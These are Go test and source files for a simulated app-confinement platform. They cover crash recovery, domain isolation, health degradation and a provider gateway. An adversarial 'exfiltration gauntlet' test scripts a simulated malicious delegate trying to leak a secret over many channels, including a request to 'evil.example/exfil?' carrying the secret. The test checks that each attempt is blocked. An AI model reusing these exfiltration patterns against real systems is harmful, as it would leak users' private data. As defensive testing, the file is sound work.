func TestDurableBootCrashRecovery(t *testing.T) {
	st := wal.NewMemStorage()
	s1 := bootDurable(t, st)
	installScript(t, s1, "appA", ams.Manifest{})
	installScript(t, s1, "viewer", ams.Manifest{Filters: viewFilter()})

	actx, err := s1.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	writeAs(t, actx, actx.DataDir()+"/notes.txt", "crash me")
	if _, err := actx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "pre-checkpoint"}); err != nil {
		t.Fatal(err)
	}

	// Checkpoint so recovery exercises snapshot + WAL tail, not just a
	// raw log replay.
	if err := s1.Checkpoint(); err != nil {
		t.Fatalf("checkpoint: %v", err)
	}

	// Post-checkpoint work, living only in the WAL tail: a delegate of
	// appA inserts a word, which lands in Vol(appA) and synthesizes the
	// words delta machinery (journaled DDL + _cow_registry row).
	vctx, err := actx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: actx.DataDir() + "/notes.txt", Flags: intent.FlagDelegate,
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := vctx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "volatile-word"}); err != nil {
		t.Fatal(err)
	}
	if _, err := actx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "post-checkpoint"}); err != nil {
		t.Fatal(err)
	}
	writeAs(t, actx, actx.DataDir()+"/post.txt", "after checkpoint")

	// Crash: no Shutdown, every unsynced page-cache byte is lost. All
	// of the operations above were acknowledged, so all must survive.
	st.Crash(nil)

	s2 := bootDurable(t, st)
	defer s2.Shutdown()
	installScript(t, s2, "appA", ams.Manifest{})
	installScript(t, s2, "appX", ams.Manifest{})

	// Files come back through the app's own namespace view.
	actx2, err := s2.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{
		actx2.DataDir() + "/notes.txt": "crash me",
		actx2.DataDir() + "/post.txt":  "after checkpoint",
	} {
		got, err := readAs(actx2, path)
		if err != nil {
			t.Errorf("recovered file %s: %v", path, err)
		} else if got != want {
			t.Errorf("recovered file %s = %q, want %q", path, got, want)
		}
	}

	words := queryWords(t, s2, "appX")
	if !words["pre-checkpoint"] || !words["post-checkpoint"] {
		t.Errorf("public words lost in recovery: %v", words)
	}
	if words["volatile-word"] {
		t.Error("volatile word leaked into the public view after recovery")
	}

	// The delta machinery was adopted, not resynthesized: appA's
	// volatile record is still there and still confined.
	if !s2.UserDict.Proxy().HasDelta("words", "appA") {
		t.Error("words delta for appA not adopted from _cow_registry")
	}
	n, err := s2.VolatileRecords("user_dictionary", "words", "appA")
	if err != nil {
		t.Fatalf("volatile records: %v", err)
	}
	if n != 1 {
		t.Errorf("Vol(appA) words = %d rows, want 1", n)
	}

	// And the adopted machinery still works: Clear-Vol drops it and the
	// registry rows with it, durably.
	if err := s2.ClearVol("appA"); err != nil {
		t.Fatalf("clear-vol after recovery: %v", err)
	}
	if s2.UserDict.Proxy().HasDelta("words", "appA") {
		t.Error("delta survived Clear-Vol")
	}
}

// TestDurableCleanShutdown verifies the close-and-reopen path and that
// a second checkpointed generation recovers on top of the first.
func TestDurableCleanShutdown(t *testing.T) {
	st := wal.NewMemStorage()
	s1 := bootDurable(t, st)
	installScript(t, s1, "appA", ams.Manifest{})
	actx, err := s1.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := actx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "first-life"}); err != nil {
		t.Fatal(err)
	}
	s1.Shutdown()

	s2 := bootDurable(t, st)
	installScript(t, s2, "appA", ams.Manifest{})
	if err := s2.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	actx2, err := s2.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := actx2.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "second-life"}); err != nil {
		t.Fatal(err)
	}
	s2.Shutdown()

	s3 := bootDurable(t, st)
	defer s3.Shutdown()
	installScript(t, s3, "appB", ams.Manifest{})
	words := queryWords(t, s3, "appB")
	if !words["first-life"] || !words["second-life"] {
		t.Errorf("words after two generations = %v", words)
	}
	if !s3.Durable() {
		t.Error("Durable() = false on a storage-backed system")
	}
}

// TestVolatileBootUnchanged pins the default: no storage, no store, and
// Checkpoint is a no-op.
func TestVolatileBootUnchanged(t *testing.T) {
	s := boot(t)
	defer s.Shutdown()
	if s.Durable() || s.Store != nil {
		t.Error("volatile boot created a store")
	}
	if err := s.Checkpoint(); err != nil {
		t.Errorf("volatile checkpoint: %v", err)
	}
}
