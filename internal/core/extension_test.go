package core

import (
	"errors"
	"strings"
	"sync"
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/netstack"
)

// TestTrustedCloudExtension covers the πBox-style extension sketched in
// §2.4: delegates remain cut off from the open network but may reach
// hosts on the trusted-cloud whitelist.
func TestTrustedCloudExtension(t *testing.T) {
	s, err := Boot(Options{TrustedCloudHosts: []string{"trusted.cloud"}})
	if err != nil {
		t.Fatal(err)
	}
	srv := netstack.NewStaticFileServer()
	srv.Put("/process", []byte("ok"))
	s.Net.Register("trusted.cloud", srv)
	s.Net.Register("open.web", srv)

	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "helper", ams.Manifest{Filters: viewFilter()})

	actx, _ := s.Launch("appA", intent.Intent{})
	dctx, err := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if err != nil {
		t.Fatal(err)
	}
	// Open web still unreachable.
	if _, err := dctx.Connect("open.web"); !errors.Is(err, kernel.ErrNetUnreachable) {
		t.Errorf("open web from delegate: %v", err)
	}
	// Trusted cloud reachable.
	conn, err := dctx.Connect("trusted.cloud")
	if err != nil {
		t.Fatalf("trusted cloud from delegate: %v", err)
	}
	resp, err := conn.Do("/process", []byte("payload"))
	if err != nil || resp.Status != 200 {
		t.Errorf("trusted request: %+v, %v", resp, err)
	}
	// Without the option, nothing is trusted.
	s2, _ := Boot(Options{})
	s2.Net.Register("trusted.cloud", srv)
	installScript(t, s2, "appA", ams.Manifest{})
	installScript(t, s2, "helper", ams.Manifest{Filters: viewFilter()})
	a2, _ := s2.Launch("appA", intent.Intent{})
	d2, _ := a2.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if _, err := d2.Connect("trusted.cloud"); !errors.Is(err, kernel.ErrNetUnreachable) {
		t.Errorf("default build trusted host: %v", err)
	}
}

// TestConcurrentConfinementDomains runs several initiators and their
// delegates in parallel, each writing into its own domain, and checks
// complete isolation afterwards — a race-detector workout for the whole
// stack (Zygote, AMS, unions, providers).
func TestConcurrentConfinementDomains(t *testing.T) {
	s := boot(t)
	const domains = 4
	names := make([]string, domains)
	for i := range names {
		names[i] = string(rune('a'+i)) + ".initiator"
		installScript(t, s, names[i], ams.Manifest{})
	}
	installScript(t, s, "worker", ams.Manifest{Filters: viewFilter()})

	var wg sync.WaitGroup
	errs := make(chan error, domains)
	for i, name := range names {
		wg.Add(1)
		go func(i int, name string) {
			defer wg.Done()
			actx, err := s.Launch(name, intent.Intent{})
			if err != nil {
				errs <- err
				return
			}
			// Each domain's delegate writes domain-tagged data.
			dctx, err := s.LaunchAsDelegate("worker", name, intent.Intent{})
			if err != nil {
				errs <- err
				return
			}
			payload := "domain-" + name
			for j := 0; j < 10; j++ {
				writeAs(t, dctx, dctx.ExtDir()+"/tag.txt", payload)
				got, err := readAs(dctx, dctx.ExtDir()+"/tag.txt")
				if err != nil || got != payload {
					errs <- err
					return
				}
			}
			// The initiator sees its own domain's file in Vol.
			got, err := readAs(actx, actx.VolDir()+"/tag.txt")
			if err != nil || got != payload {
				errs <- err
				return
			}
			errs <- nil
		}(i, name)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	// Cross-domain isolation: each initiator sees only its own tag.
	for _, name := range names {
		actx, _ := s.Launch(name, intent.Intent{})
		got, err := readAs(actx, actx.VolDir()+"/tag.txt")
		if err != nil || got != "domain-"+name {
			t.Errorf("domain %s sees %q, %v", name, got, err)
		}
	}
}

// TestCommitVolatileFileEdgeCases exercises commit with odd paths.
func TestCommitVolatileFileEdgeCases(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "viewer", ams.Manifest{Filters: viewFilter()})
	actx, _ := s.Launch("appA", intent.Intent{})
	dctx, _ := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if err := dctx.FS().MkdirAll(dctx.Cred(), dctx.ExtDir()+"/deep/nest", 0o777); err != nil {
		t.Fatal(err)
	}
	writeAs(t, dctx, dctx.ExtDir()+"/deep/nest/file.txt", "v")

	vols, err := s.ListVolatileFiles("appA")
	if err != nil || len(vols) != 1 {
		t.Fatalf("vols = %v, %v", vols, err)
	}
	if err := s.CommitVolatileFile("appA", vols[0], actx.ExtDir()+"/committed/out.txt"); err != nil {
		t.Fatal(err)
	}
	got, err := readAs(actx, actx.ExtDir()+"/committed/out.txt")
	if err != nil || got != "v" {
		t.Errorf("committed = %q, %v", got, err)
	}
	// Committing a missing volatile file fails.
	if err := s.CommitVolatileFile("appA", "/storage/sdcard/tmp/nope", "/storage/sdcard/x"); err == nil {
		t.Error("commit of missing file should fail")
	}
	// ListVolatileFiles of an unknown initiator is empty, not an error.
	vols, err = s.ListVolatileFiles("nobody")
	if err != nil || len(vols) != 0 {
		t.Errorf("unknown initiator vols = %v, %v", vols, err)
	}
}

// TestVolatileRecordsUnknownAuthority covers the facade error path.
func TestVolatileRecordsUnknownAuthority(t *testing.T) {
	s := boot(t)
	if _, err := s.VolatileRecords("bogus", "t", "a"); err == nil {
		t.Error("unknown authority should fail")
	}
}

// TestVolatileListingHidesWhiteouts: a delegate deleting a public file
// creates a whiteout in Vol(A)'s backing branch; the initiator-facing
// listing must not expose that union-internal artifact.
func TestVolatileListingHidesWhiteouts(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "viewer", ams.Manifest{Filters: viewFilter()})
	actx, _ := s.Launch("appA", intent.Intent{})
	writeAs(t, actx, actx.ExtDir()+"/public.txt", "p")
	dctx, _ := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if err := dctx.FS().Remove(dctx.Cred(), dctx.ExtDir()+"/public.txt"); err != nil {
		t.Fatal(err)
	}
	vols, err := s.ListVolatileFiles("appA")
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range vols {
		if strings.Contains(v, ".wh.") {
			t.Errorf("whiteout leaked into volatile listing: %s", v)
		}
	}
	// The public file is hidden from the delegate but intact publicly.
	if _, err := readAs(dctx, dctx.ExtDir()+"/public.txt"); err == nil {
		t.Error("delegate still sees deleted file")
	}
	if got, _ := readAs(actx, actx.ExtDir()+"/public.txt"); got != "p" {
		t.Errorf("public file mutated: %q", got)
	}
}
