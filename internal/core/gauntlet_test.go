package core

import (
	"errors"
	"strings"
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/layout"
	"maxoid/internal/provider"
	"maxoid/internal/vfs"
)

// TestExfiltrationGauntlet is the adversarial S1 test: a malicious
// delegate that has read the initiator's secret tries every
// communication channel the platform offers. Every attempt must either
// fail outright or land inside the initiator's confinement domain,
// unobservable by a colluding third app.
func TestExfiltrationGauntlet(t *testing.T) {
	s := boot(t)
	installScript(t, s, "victim", ams.Manifest{})
	installScript(t, s, "malware", ams.Manifest{Filters: viewFilter()})
	colluder := installScript(t, s, "colluder", ams.Manifest{
		Filters: []intent.Filter{{Actions: []string{"collude.RECEIVE"}}},
	})
	_ = colluder

	vctx, _ := s.Launch("victim", intent.Intent{})
	writeAs(t, vctx, vctx.DataDir()+"/secret", "THE-SECRET")
	cctx, _ := s.Launch("colluder", intent.Intent{})

	mctx, err := vctx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: vctx.DataDir() + "/secret", Flags: intent.FlagDelegate,
	})
	if err != nil {
		t.Fatal(err)
	}
	secret, err := readAs(mctx, "/data/data/victim/secret")
	if err != nil || secret != "THE-SECRET" {
		t.Fatalf("malware read: %q, %v", secret, err)
	}

	// Channel 1: public external storage. The write succeeds (U3) but
	// lands in Vol(victim); the colluder sees nothing.
	writeAs(t, mctx, layout.ExtDir+"/drop.txt", secret)
	if _, err := readAs(cctx, layout.ExtDir+"/drop.txt"); err == nil {
		t.Error("LEAK via external storage")
	}

	// Channel 2: system content providers (all three).
	res := mctx.Resolver()
	if _, err := res.Insert("content://user_dictionary/words", provider.Values{"word": secret}); err != nil {
		t.Fatal(err)
	}
	if _, err := res.Insert("content://media/files", provider.Values{
		"_data": "/x", "media_type": int64(1), "title": secret,
	}); err != nil {
		t.Fatal(err)
	}
	cres := cctx.Resolver()
	for _, uri := range []string{"content://user_dictionary/words", "content://media/files"} {
		rows, err := cres.Query(uri, nil, "", "")
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows.Data {
			for _, v := range row {
				if str, ok := v.(string); ok && strings.Contains(str, "THE-SECRET") {
					t.Errorf("LEAK via %s", uri)
				}
			}
		}
	}

	// Channel 3: Downloads provider as a network proxy — the request is
	// recorded but no fetch happens and the record is volatile.
	before := s.Net.Requests()
	if _, err := res.Insert("content://downloads/my_downloads", provider.Values{
		"uri": "evil.example/exfil?" + secret,
	}); err != nil {
		t.Fatal(err)
	}
	s.Downloads.Drain()
	if s.Net.Requests() != before {
		t.Error("LEAK via Downloads provider fetch")
	}

	// Channel 4: direct network.
	if _, err := mctx.Connect("evil.example"); !errors.Is(err, kernel.ErrNetUnreachable) {
		t.Errorf("network gate: %v", err)
	}

	// Channel 5: direct Binder IPC to the colluder.
	if _, err := mctx.CallApp(kernel.Task{App: "colluder"}, "exfil",
		binder.Parcel{"secret": secret}); !errors.Is(err, kernel.ErrPermissionDenied) {
		t.Errorf("binder gate: %v", err)
	}

	// Channel 6: broadcast. Delivered only within the domain: the
	// colluder receives it as colluder^victim, whose traces are
	// confined, not as its normal instance.
	if err := mctx.SendBroadcast(intent.Intent{Action: "collude.RECEIVE", Data: secret}); err != nil {
		t.Fatal(err)
	}
	if colluder.lastCtx != nil && !colluder.lastCtx.IsDelegate() {
		t.Error("LEAK via broadcast to a normal instance")
	}

	// Channel 7: Bluetooth and SMS.
	if err := s.Bluetooth.Send(mctx.Task(), secret); !errors.Is(err, ams.ErrDelegateDenied) {
		t.Errorf("bluetooth gate: %v", err)
	}
	if err := s.Telephony.SendSMS(mctx.Task(), "+1555", secret); !errors.Is(err, ams.ErrDelegateDenied) {
		t.Errorf("sms gate: %v", err)
	}

	// Channel 8: clipboard. The copy stays in the domain.
	s.Clipboard.Set(mctx.Task(), secret)
	if clip, ok := s.Clipboard.Get(cctx.Task()); ok && clip == secret {
		t.Error("LEAK via clipboard")
	}

	// Channel 9: invoking the colluder — invocation transitivity forces
	// it into the domain.
	col2, err := mctx.StartActivity(intent.Intent{Action: "collude.RECEIVE", Data: secret})
	if err != nil {
		t.Fatal(err)
	}
	if !col2.IsDelegate() || col2.Initiator() != "victim" {
		t.Errorf("LEAK via invocation: %v", col2.Task())
	}

	// Channel 10: stash in own private state for later. After the
	// delegate dies and malware runs normally, the stash is gone.
	writeAs(t, mctx, "/data/data/malware/stash", secret)
	s.AM.StopInstance("malware", "victim")
	nctx, _ := s.Launch("malware", intent.Intent{})
	if _, err := readAs(nctx, "/data/data/malware/stash"); err == nil {
		t.Error("LEAK via private-state stash across contexts")
	}

	// Channel 11: pPriv — persistent, but only within the same domain.
	mctx2, _ := s.LaunchAsDelegate("malware", "victim", intent.Intent{})
	writeAs(t, mctx2, mctx2.PPrivDir()+"/stash", secret)
	s.AM.StopInstance("malware", "victim")
	nctx2, _ := s.Launch("malware", intent.Intent{})
	if _, err := readAs(nctx2, nctx2.PPrivDir()+"/stash"); err == nil {
		t.Error("LEAK via pPriv to normal execution")
	}
	other, _ := s.LaunchAsDelegate("malware", "colluder", intent.Intent{})
	if _, err := readAs(other, other.PPrivDir()+"/stash"); err == nil {
		t.Error("LEAK via pPriv across initiators")
	}

	// Finally: raw disk access with the malware's credential finds no
	// secret anywhere it can traverse.
	cred := vfs.Cred{UID: nctx2.Cred().UID}
	for _, root := range []string{layout.BackExt, layout.BackNPriv, layout.BackPPriv} {
		_ = vfs.Walk(s.Disk, cred, root, func(name string, info vfs.FileInfo) error {
			if info.IsDir() {
				return nil
			}
			data, err := vfs.ReadFile(s.Disk, cred, name)
			if err == nil && strings.Contains(string(data), "THE-SECRET") {
				t.Errorf("LEAK readable at %s", name)
			}
			return nil
		})
	}
}
