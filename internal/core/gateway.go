package core

// Gateway wiring: serving a booted device's providers to remote
// clients over the simulated network. Kept out of Boot so volatile
// tests pay nothing for it; StartGateway is opt-in and Shutdown tears
// it down.

import (
	"fmt"

	"maxoid/internal/gateway"
	"maxoid/internal/netstack"
)

// GatewayHost is the default host the gateway binds on the netstack.
const GatewayHost = "maxoid-gw"

// GatewayOptions tune StartGateway.
type GatewayOptions struct {
	// Host overrides the bound host name (default GatewayHost).
	Host string
	// AllowDetached admits identities with no live AMS instance by
	// synthesizing kernel-less callers — fleet benchmarks only; strict
	// identity binding is the default.
	AllowDetached bool
	// Workers sizes the gateway worker pool (default 4).
	Workers int
	// Audit, when non-nil, is attached as a post-hook audit sink.
	Audit *gateway.AuditLog
}

// StartGateway serves the system's providers on its network. The
// returned gateway is also remembered for Shutdown. Metrics flow into
// Options.Metrics when the boot provided a registry.
func (s *System) StartGateway(opts GatewayOptions) (*gateway.Gateway, error) {
	if s.gw != nil {
		return nil, fmt.Errorf("core: gateway already started")
	}
	host := opts.Host
	if host == "" {
		host = GatewayHost
	}
	gw := gateway.New(gateway.Options{
		Router:        s.Router,
		AMS:           s.AM,
		Providers:     s.Providers,
		Metrics:       s.metrics,
		AllowDetached: opts.AllowDetached,
		Workers:       opts.Workers,
	})
	if opts.Audit != nil {
		gw.Post(opts.Audit.Record)
	}
	if err := gw.Serve(s.Net, host); err != nil {
		return nil, err
	}
	s.gw = gw
	s.gwHost = host
	return gw, nil
}

// GatewayHostname returns the host the running gateway is bound to
// ("" when no gateway is running).
func (s *System) GatewayHostname() string { return s.gwHost }

// GatewayRequest performs one client round trip against the running
// gateway, attaching the identity token — the programmatic equivalent
// of curl with an X-Maxoid-Identity header.
func (s *System) GatewayRequest(token, method, path string, body []byte) (netstack.Response, error) {
	if s.gw == nil {
		return netstack.Response{}, fmt.Errorf("core: gateway not started")
	}
	return s.Net.RoundTrip(netstack.Request{
		Host:    s.gwHost,
		Path:    path,
		Method:  method,
		Body:    body,
		Headers: map[string]string{gateway.IdentityHeader: token},
	})
}
