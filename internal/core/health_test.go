package core

import (
	"errors"
	"testing"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/fault"
	"maxoid/internal/health"
	"maxoid/internal/intent"
	"maxoid/internal/metrics"
	"maxoid/internal/provider"
	"maxoid/internal/wal"
)

// TestSystemHealthDegradation drives the health machinery through the
// full stack: a durable boot degrades to read-only under injected
// transient storage faults, provider writes come back as typed
// retryable rejections while reads keep serving, and Heal restores
// service.
func TestSystemHealthDegradation(t *testing.T) {
	reg := metrics.NewRegistry()
	s, err := Boot(Options{
		Storage: wal.NewMemStorage(),
		Metrics: reg,
		StoreTuning: func(cfg *wal.Config) {
			cfg.MaxRetries = 2
			cfg.RetryBackoff = time.Nanosecond
			cfg.RetrySleep = func(time.Duration) {}
		},
	})
	if err != nil {
		t.Fatalf("boot: %v", err)
	}
	defer s.Shutdown()
	if s.Health() != health.Healthy {
		t.Fatalf("boot health = %v", s.Health())
	}

	installScript(t, s, "appA", ams.Manifest{})
	ctx, err := s.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ctx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "before"}); err != nil {
		t.Fatal(err)
	}

	// Exhaust the retry budget: the store drops to read-only.
	fault.Enable(1, fault.Spec{Point: "wal.append.transient", Prob: 1, Op: fault.OpTransient})
	_, err = ctx.Resolver().Insert("content://user_dictionary/words", provider.Values{"word": "residue"})
	fault.Disable()
	if err == nil {
		t.Fatal("insert should have failed under exhausted retries")
	}
	if s.Health() != health.ReadOnly {
		t.Fatalf("health = %v, want read-only", s.Health())
	}

	// Degraded: further writes are rejected with the typed gate error —
	// pre-mutation — while reads keep serving.
	if _, err := ctx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "rejected"}); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("degraded insert err = %v, want ErrReadOnly", err)
	}
	rows, err := ctx.Resolver().Query("content://user_dictionary/words", []string{"word"}, "", "")
	if err != nil {
		t.Fatalf("degraded read: %v", err)
	}
	if len(rows.Data) == 0 {
		t.Fatal("degraded read returned nothing")
	}
	if g := reg.Gauges()["wal.health"]; g != int64(health.ReadOnly) {
		t.Fatalf("wal.health gauge = %d, want %d", g, int64(health.ReadOnly))
	}

	// Heal: memory and disk reconcile, service resumes.
	if err := s.Store.Heal(); err != nil {
		t.Fatalf("heal: %v", err)
	}
	if s.Health() != health.Healthy {
		t.Fatalf("health after heal = %v", s.Health())
	}
	if _, err := ctx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": "after"}); err != nil {
		t.Fatalf("insert after heal: %v", err)
	}
}

// TestSystemHealthVolatile: a volatile boot has no store to degrade.
func TestSystemHealthVolatile(t *testing.T) {
	s, err := Boot(Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Shutdown()
	if s.Health() != health.Healthy {
		t.Fatalf("volatile health = %v, want healthy", s.Health())
	}
}

// TestSystemMaintenanceLoop: ScrubInterval starts the background loop
// and Shutdown stops it cleanly.
func TestSystemMaintenanceLoop(t *testing.T) {
	s, err := Boot(Options{Storage: wal.NewMemStorage(), ScrubInterval: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(5 * time.Millisecond) // let a few scrub ticks run
	if s.Health() != health.Healthy {
		t.Fatalf("health under scrubbing = %v", s.Health())
	}
	s.Shutdown()
}
