package core

// Gateway acceptance tests at the system level: the differential
// confinement check (a remote client with delegate identity D observes
// byte-for-byte what a local delegate D observes — rows and files),
// plus the production gates at the remote boundary (admission overload
// → typed 429, degraded store → typed 503 for writes while reads keep
// serving).

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/fault"
	"maxoid/internal/gateway"
	"maxoid/internal/health"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/provider"
	"maxoid/internal/sqldb"
	"maxoid/internal/testutil"
	"maxoid/internal/wal"
)

// remoteRows renders a local query result exactly as the gateway's
// rowsResponse does, so local and remote observations can be compared
// byte-for-byte.
func remoteRows(t *testing.T, rows *sqldb.Rows) []byte {
	t.Helper()
	out := struct {
		Columns []string        `json:"columns"`
		Rows    [][]sqldb.Value `json:"rows"`
	}{Columns: rows.Columns, Rows: rows.Data}
	if out.Columns == nil {
		out.Columns = []string{}
	}
	if out.Rows == nil {
		out.Rows = [][]sqldb.Value{}
	}
	b, err := json.Marshal(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestGatewayDifferentialRemoteVsLocal is the PR's acceptance
// differential: for both Downloads and Media, and for files on
// external storage, the remote observation with identity D must be
// byte-identical to the local delegate D's observation — including
// volatile state only D can see.
func TestGatewayDifferentialRemoteVsLocal(t *testing.T) {
	defer testutil.LeakCheck(t)()
	s := boot(t)
	defer s.Shutdown()
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "editor", ams.Manifest{Filters: viewFilter()})
	ctxA, err := s.Launch("appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	ctxD, err := s.LaunchAsDelegate("editor", "appA", intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.StartGateway(GatewayOptions{}); err != nil {
		t.Fatal(err)
	}
	tokD := gateway.Token(ctxD.Task())

	// Public state written by the initiator: provider rows + a file.
	for i := 0; i < 3; i++ {
		if _, err := ctxA.Resolver().Insert("content://media/files", provider.Values{
			"_data": fmt.Sprintf("/storage/sdcard/DCIM/img%d.jpg", i), "media_type": int64(1),
			"title": fmt.Sprintf("img%d", i), "size": int64(100 + i),
		}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := ctxA.Resolver().Insert("content://downloads/my_downloads", provider.Values{
		"uri": "http://files.example.com/pub.bin", "title": "pub", "status": int64(200),
		"_data": layout.ExtDir + "/Download/pub.bin",
	}); err != nil {
		t.Fatal(err)
	}
	if err := ctxA.FS().MkdirAll(ctxA.Cred(), layout.ExtDir+"/Download", 0o755); err != nil {
		t.Fatal(err)
	}
	writeAs(t, ctxA, layout.ExtDir+"/Download/pub.bin", "public-bytes")

	// Volatile state written by the delegate: only D's view holds it.
	if _, err := ctxD.Resolver().Insert("content://media/files", provider.Values{
		"_data": "/storage/sdcard/DCIM/private.jpg", "media_type": int64(1),
		"title": "private", "size": int64(7),
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := ctxD.Resolver().Insert("content://downloads/my_downloads", provider.Values{
		"uri": "http://files.example.com/vol.bin", "title": "vol",
		"_data": layout.ExtDir + "/Download/vol.bin",
	}); err != nil {
		t.Fatal(err)
	}
	writeAs(t, ctxD, layout.ExtDir+"/Download/vol.bin", "delegate-only-bytes")

	// Rows: every (provider, table) surface, ordered deterministically.
	for _, tc := range []struct {
		uri  string
		path string
	}{
		{"content://downloads/my_downloads", "/v1/downloads/my_downloads?order=_id"},
		{"content://media/files", "/v1/media/files?order=_id"},
		{"content://media/images", "/v1/media/images?order=_id"},
		{"content://user_dictionary/words", "/v1/user_dictionary/words?order=_id"},
	} {
		local, err := ctxD.Resolver().Query(tc.uri, nil, "", "_id")
		if err != nil {
			t.Fatalf("local query %s: %v", tc.uri, err)
		}
		resp, err := s.GatewayRequest(tokD, "GET", tc.path, nil)
		if err != nil || resp.Status != 200 {
			t.Fatalf("remote query %s: %v %d %s", tc.path, err, resp.Status, resp.Body)
		}
		if want := remoteRows(t, local); string(resp.Body) != string(want) {
			t.Fatalf("%s: remote view diverges from local delegate view\nremote: %s\nlocal:  %s",
				tc.path, resp.Body, want)
		}
	}

	// Files: the delegate's union view over the gateway, byte-for-byte.
	for _, name := range []string{"/Download/pub.bin", "/Download/vol.bin"} {
		local, err := readAs(ctxD, layout.ExtDir+name)
		if err != nil {
			t.Fatalf("local read %s: %v", name, err)
		}
		resp, err := s.GatewayRequest(tokD, "GET", "/v1/_fs"+layout.ExtDir+name, nil)
		if err != nil || resp.Status != 200 {
			t.Fatalf("remote read %s: %v %d %s", name, err, resp.Status, resp.Body)
		}
		if string(resp.Body) != local {
			t.Fatalf("file %s: remote %q != local %q", name, resp.Body, local)
		}
	}

	// Counter-probe: the initiator's remote view must NOT contain the
	// delegate's volatile file or rows.
	tokA := gateway.Token(ctxA.Task())
	resp, _ := s.GatewayRequest(tokA, "GET", "/v1/_fs"+layout.ExtDir+"/Download/vol.bin", nil)
	if resp.Status != 404 {
		t.Fatalf("initiator sees delegate's volatile file remotely: %d", resp.Status)
	}
	local, err := ctxA.Resolver().Query("content://media/files", nil, "", "_id")
	if err != nil {
		t.Fatal(err)
	}
	if len(local.Data) != 3 {
		t.Fatalf("initiator sees %d media rows locally, want 3", len(local.Data))
	}
	resp, _ = s.GatewayRequest(tokA, "GET", "/v1/media/files?order=_id", nil)
	if want := remoteRows(t, local); string(resp.Body) != string(want) {
		t.Fatalf("initiator remote/local diverge:\nremote: %s\nlocal:  %s", resp.Body, want)
	}
}

// TestGatewayOverloadTyped429 floods a rate-limited system through the
// gateway and requires every rejection to be the typed 429 with a
// Retry-After hint — never a 500 — and in-flight work to drain to 0.
func TestGatewayOverloadTyped429(t *testing.T) {
	defer testutil.LeakCheck(t)()
	s := boot(t)
	defer s.Shutdown()
	installScript(t, s, "appA", ams.Manifest{})
	if _, err := s.Launch("appA", intent.Intent{}); err != nil {
		t.Fatal(err)
	}
	adm := s.AM.EnableAdmissionControl(ams.AdmissionConfig{PerAppRate: 5, PerAppBurst: 5})
	if _, err := s.StartGateway(GatewayOptions{}); err != nil {
		t.Fatal(err)
	}

	var ok200, rej429, other int
	for i := 0; i < 200; i++ {
		resp, err := s.GatewayRequest("u0:appA", "POST", "/v1/user_dictionary/words",
			[]byte(fmt.Sprintf(`{"word":"w%d"}`, i)))
		if err != nil {
			t.Fatalf("transport error: %v", err)
		}
		switch resp.Status {
		case 201:
			ok200++
		case 429:
			rej429++
			if resp.Header("Retry-After") == "" {
				t.Fatal("429 without Retry-After")
			}
		default:
			other++
			t.Errorf("untyped overload response: %d %s", resp.Status, resp.Body)
		}
	}
	if rej429 == 0 {
		t.Fatalf("no 429s across 200 requests at rate 5/s (admitted %d)", ok200)
	}
	if other != 0 {
		t.Fatalf("%d responses were neither 201 nor 429", other)
	}
	if got := adm.InFlight(); got != 0 {
		t.Fatalf("in-flight after drain: %d, want 0", got)
	}
}

// TestGatewayDegradedStore503 degrades a durable boot to read-only and
// requires remote writes to fail with the typed 503 while remote reads
// keep serving 200.
func TestGatewayDegradedStore503(t *testing.T) {
	defer testutil.LeakCheck(t)()
	s, err := Boot(Options{
		Storage: wal.NewMemStorage(),
		StoreTuning: func(cfg *wal.Config) {
			cfg.MaxRetries = 2
			cfg.RetryBackoff = time.Nanosecond
			cfg.RetrySleep = func(time.Duration) {}
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Shutdown()
